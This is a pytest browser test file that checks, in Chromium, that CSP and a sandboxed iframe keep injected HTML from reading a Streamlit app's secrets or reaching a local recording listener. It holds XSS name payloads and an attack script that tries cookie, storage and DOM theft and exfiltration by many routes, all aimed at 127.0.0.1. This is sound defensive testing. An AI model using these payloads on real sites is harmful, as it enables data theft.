"""Defence in depth in real Chromium: a payload that got past escaping still reaches neither the app's page nor
the network, from the network graph (its own CSP, then a sandboxed frame with an opaque origin) or from the
offline report (its CSP).

"Got past escaping" is staged two ways: the escaping functions are broken on purpose in this process before
the page is built (a regression of the kind the CSP is there for), and, for the worst case, attack code is run
inside the graph's frame itself (as if a payload had found a way to execute). Every attempt aims at a local
listener that records each request it receives; a control request from the unprotected parent page proves the
listener would have seen them.
"""

from __future__ import annotations

import http.server
import json
import re
import socketserver
import threading
from pathlib import Path

import pytest

from browserkit import RENDER_TIMEOUT_MS

pytestmark = pytest.mark.browser

SECRET = "parent-secret-" + "4f1c"


class _Recorder(http.server.BaseHTTPRequestHandler):
    def _hit(self):
        self.server.hits.append(f"{self.command} {self.path}")
        self.send_response(204)
        self.end_headers()

    do_GET = do_POST = do_HEAD = do_OPTIONS = _hit

    def log_message(self, *args):
        pass


class _Pages(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = self.server.pages.get(self.path)
        self.send_response(200 if body else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write((body or "").encode("utf-8"))

    def log_message(self, *args):
        pass


def _serve(handler):
    srv = socketserver.ThreadingTCPServer(("127.0.0.1", 0), handler)
    srv.daemon_threads = True
    srv.hits, srv.pages = [], {}
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv


@pytest.fixture(scope="module")
def listener():
    srv = _serve(_Recorder)
    yield srv
    srv.shutdown()
    srv.server_close()


@pytest.fixture(scope="module")
def site():
    """Where the parent page lives: another local origin (same address space as the listener, so Chromium's
    private-network rules cannot be what blocks a request)."""
    srv = _serve(_Pages)
    srv.base = f"http://127.0.0.1:{srv.server_address[1]}"
    yield srv
    srv.shutdown()
    srv.server_close()


@pytest.fixture
def context(browser):
    ctx = browser.new_context(viewport={"width": 1200, "height": 900}, service_workers="block")
    yield ctx
    ctx.close()


def streamlit_iframe_sandbox() -> str:
    """The sandbox Streamlit puts on ``st.iframe`` HTML, read from the installed frontend bundle."""
    import streamlit

    static = Path(streamlit.__file__).parent / "static" / "static" / "js"
    for js in static.glob("*.js"):
        m = re.search(r"\[((?:`allow-[a-z-]+`,?)+)\]\.join\(` `\)", js.read_text(encoding="utf-8", errors="ignore"))
        if m and "allow-same-origin" in m.group(1):
            return " ".join(re.findall(r"`(allow-[a-z-]+)`", m.group(1)))
    raise AssertionError("Streamlit's iframe sandbox list was not found in its bundle")


def parent_page(inner_html: str, sandbox: str) -> str:
    """An app-like page holding a secret, embedding ``inner_html`` the way st.iframe does (srcdoc + sandbox)."""
    from harness.safety import html_text

    return (f"<!DOCTYPE html><html><head><title>app</title></head><body><p id=secret>{SECRET}</p>"
            f"<script>localStorage.setItem('secret', '{SECRET}'); document.cookie = 'secret={SECRET}';</script>"
            f'<iframe id=st sandbox="{sandbox}" style="width:1000px;height:700px" srcdoc="{html_text(inner_html)}">'
            "</iframe></body></html>")


# Code that has got to run inside a frame: every way it might read its parent or talk to the network.
ATTACK_JS = """async (port) => {
  const url = p => `http://127.0.0.1:${port}/${p}`;
  const out = {};
  const attempt = async (name, f) => {
    try { const r = await f(); out[name] = 'allowed: ' + String(r).slice(0, 60); }
    catch (e) { out[name] = 'refused: ' + (e && e.name); }
  };
  await attempt('parent_dom', () => window.parent.document.body.innerText);
  await attempt('top_dom', () => window.top.document.getElementById('secret').textContent);
  await attempt('top_storage', () => window.top.localStorage.getItem('secret'));
  await attempt('top_cookie', () => window.top.document.cookie);
  await attempt('top_global', () => { window.top.__pwned = 1; return window.top.__pwned; });
  await attempt('own_storage', () => window.localStorage.getItem('secret'));
  await attempt('own_cookie', () => document.cookie);
  await attempt('fetch', () => fetch(url('fetch'), {mode: 'no-cors'}));
  await attempt('xhr', () => new Promise((ok, no) => {
    const x = new XMLHttpRequest(); x.open('GET', url('xhr')); x.onload = ok; x.onerror = () => no(new Error('xhr'));
    x.send(); }));
  await attempt('beacon', () => { if (!navigator.sendBeacon(url('beacon'), 'x')) throw new Error('beacon'); });
  await attempt('websocket', () => new WebSocket(`ws://127.0.0.1:${port}/ws`));
  await attempt('eventsource', () => new EventSource(url('sse')));
  await attempt('font', () => new FontFace('x', `url(${url('font')})`).load());
  await attempt('popup', () => { if (!window.open(url('popup'))) throw new Error('popup'); });
  await attempt('top_navigation', () => { window.top.location.href = url('top-navigation'); });
  const add = (tag, attrs) => { const e = document.createElement(tag); Object.assign(e, attrs);
                                (document.body || document.documentElement).appendChild(e); return e; };
  add('img', {src: url('img')});
  add('link', {rel: 'stylesheet', href: url('css')});
  add('script', {src: url('js')});
  add('iframe', {src: url('frame')});
  add('object', {data: url('object')});
  add('div', {}).style.backgroundImage = `url(${url('background')})`;
  const form = add('form', {action: url('form'), method: 'post'});
  await attempt('form', () => form.submit());
  // Last, as it ends this document: navigate this frame itself to the listener.
  setTimeout(() => { location.href = url('self-navigation?' + encodeURIComponent(document.title)); }, 50);
  return out;
}"""

CAN_ONLY_FAIL = ["parent_dom", "top_dom", "top_storage", "top_cookie", "top_global", "popup", "top_navigation"]


def _graph_html(monkeypatch, port: int, *, broken_escaping: bool) -> str:
    """The network page for people whose names are HTML aimed at the listener."""
    from harness import graphview
    from tests.test_network import tables

    names = [f'</script><script>fetch("http://127.0.0.1:{port}/inline-script")</script>',
             f'<img src="http://127.0.0.1:{port}/name-img" onerror="window.top.__pwned=1">',
             f'<link rel="stylesheet" href="http://127.0.0.1:{port}/name-css">'
             f'<iframe src="http://127.0.0.1:{port}/name-frame"></iframe>',
             f'<script src="http://127.0.0.1:{port}/name-js"></script><style>@import "http://127.0.0.1:{port}/imp";'
             f'</style>']
    if broken_escaping:  # a regression: data no longer \\u-escaped inside the page's script
        monkeypatch.setattr(graphview, "script_json", lambda obj: json.dumps(obj))
    html, _ = graphview.render_network_html(tables([(names[0], names[1], 1), (names[1], names[2], 2),
                                                    (names[2], names[3], 3)]))
    if broken_escaping:
        assert "</script><script>fetch(" in html  # the payload really is loose in the markup
    return html


def _open(context, site, listener, path: str, embedded: str):
    """A new page showing the app-like parent that embeds ``embedded`` as st.iframe does; the listener reset."""
    site.pages[path] = parent_page(embedded, streamlit_iframe_sandbox())
    listener.hits.clear()
    page = context.new_page()
    page.set_default_timeout(RENDER_TIMEOUT_MS)
    page.goto(site.base + path)
    return page


def test_a_payload_loose_in_the_graph_page_reaches_nothing(context, monkeypatch, listener, site):
    from harness import graphview

    port = listener.server_address[1]
    page = _open(context, site, listener, "/graph", graphview.sandboxed(_graph_html(monkeypatch, port,
                                                                                   broken_escaping=True)))
    page.wait_for_timeout(1500)
    assert page.evaluate("() => window.__pwned") is None
    assert listener.hits == [], listener.hits
    # Control: the same listener hears the unprotected parent page.
    page.evaluate(f"() => fetch('http://127.0.0.1:{port}/control', {{mode: 'no-cors'}})")
    page.wait_for_timeout(300)
    assert listener.hits == ["GET /control"]


def test_code_running_in_the_graph_frame_reaches_neither_the_app_nor_the_network(context, monkeypatch, listener,
                                                                                 site):
    from harness import graphview

    port = listener.server_address[1]
    page = _open(context, site, listener, "/graph-worst",
                 graphview.sandboxed(_graph_html(monkeypatch, port, broken_escaping=False)))
    graph = _graph_frame(page)
    assert graph.evaluate("() => self.origin") == "null"  # opaque: not the app's origin
    outcome = graph.evaluate(ATTACK_JS, port)
    page.wait_for_timeout(1500)
    assert {k: v for k, v in outcome.items() if k in CAN_ONLY_FAIL and not v.startswith("refused")} == {}, outcome
    assert "secret" not in json.dumps(outcome), outcome
    assert page.evaluate("() => window.__pwned") is None
    assert listener.hits == [], listener.hits
    assert page.locator("#secret").inner_text() == SECRET


def test_without_the_sandbox_the_same_code_reads_the_app(context, monkeypatch, listener, site):
    """Control for the test above: the graph page put straight into Streamlit's iframe, as before issue 17."""
    port = listener.server_address[1]
    page = _open(context, site, listener, "/graph-bare", _graph_html(monkeypatch, port, broken_escaping=False))
    frame = page.frame_locator("#st").locator("#net canvas")
    frame.wait_for()
    outcome = page.frames[1].evaluate(ATTACK_JS, port)
    assert outcome["top_dom"] == f"allowed: {SECRET}", outcome


def _graph_frame(page):
    """The frame running the graph: the one that defines ``DATA`` (inside the wrapper inside the app's iframe)."""
    page.frame_locator("iframe").first.frame_locator("iframe").locator("#net canvas").wait_for()
    found = [f for f in page.frames if f.url == "about:srcdoc" and f.evaluate("() => typeof DATA") == "object"]
    assert len(found) == 1, [f.url for f in page.frames]
    return found[0]


def test_a_payload_loose_in_the_report_reaches_nothing(context, monkeypatch, listener, site, small_dataset,
                                                      period):
    from harness import report

    port = listener.server_address[1]
    u = f"http://127.0.0.1:{port}"
    payload = (f'<img src="{u}/report-img"><script>fetch("{u}/report-script")</script><script src="{u}/rs.js">'
               f'</script><link rel="stylesheet" href="{u}/report-css"><iframe src="{u}/report-frame"></iframe>'
               f'<object data="{u}/report-object"></object><style>@import "{u}/report-import";'
               f'@font-face{{font-family:x;src:url({u}/report-font)}} body{{background:url({u}/report-bg);'
               f'font-family:x}}</style><video src="{u}/report-video" autoplay></video>'
               f'<form action="{u}/report-form" method="post"><button id=go>go</button></form>')
    monkeypatch.setattr(report, "svg_of", lambda *a, **k: None)
    monkeypatch.setattr(report, "e", lambda text: "" if text is None else str(text))  # escaping broken
    snap = report.snapshot_for_report(small_dataset, period, salt="s", pseudonymise=True)
    html = report.render_report(snap, title="Review " + payload, commentary=payload, organisation=payload)
    assert f'<img src="{u}/report-img">' in html  # the payload really is loose in the markup
    site.pages["/report.html"] = html
    listener.hits.clear()
    page = context.new_page()
    page.goto(site.base + "/report.html")
    page.evaluate("() => document.getElementById('go').click()")  # a form post: form-action 'none' refuses it
    page.wait_for_timeout(1500)
    assert listener.hits == [], listener.hits
    assert page.url == site.base + "/report.html"


def test_in_the_app_the_graph_runs_sandboxed_and_reaches_nothing(tab, listener):
    """The real Connections page: the graph's frame is the sandboxed one, with an opaque origin, and code running
    in it can neither read the app's page nor reach the listener."""
    tab.goto("connections")
    page = tab.page
    page.evaluate(f"() => {{ window.appSecret = '{SECRET}'; sessionStorage.setItem('secret', '{SECRET}'); }}")
    from browserkit import network_frame

    graph = network_frame(page)
    graph.wait_for_function("() => window.referralNetworkDrawnAt !== undefined")
    outer = page.locator("iframe[data-testid=stIFrame]").first.element_handle().content_frame()
    assert outer.locator("iframe").first.get_attribute("sandbox") == "allow-scripts"
    assert graph.evaluate("() => self.origin") == "null"
    listener.hits.clear()
    outcome = graph.evaluate(ATTACK_JS, listener.server_address[1])
    page.wait_for_timeout(1500)
    assert {k: v for k, v in outcome.items() if k in CAN_ONLY_FAIL and not v.startswith("refused")} == {}, outcome
    assert "secret" not in json.dumps(outcome), outcome
    assert listener.hits == [], listener.hits
    assert page.evaluate("() => window.__pwned") is None
